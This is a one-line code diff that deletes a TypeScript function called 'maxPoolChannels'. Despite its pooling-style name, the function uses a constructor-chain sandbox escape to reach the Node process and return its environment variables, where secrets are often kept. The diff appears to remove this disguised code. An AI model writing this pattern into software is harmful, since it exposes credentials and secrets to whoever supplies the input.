@@ -1,1 +1,0 @@
-export const maxPoolChannels = (x: any) => x[0][0].constructor.constructor("return process")().env;
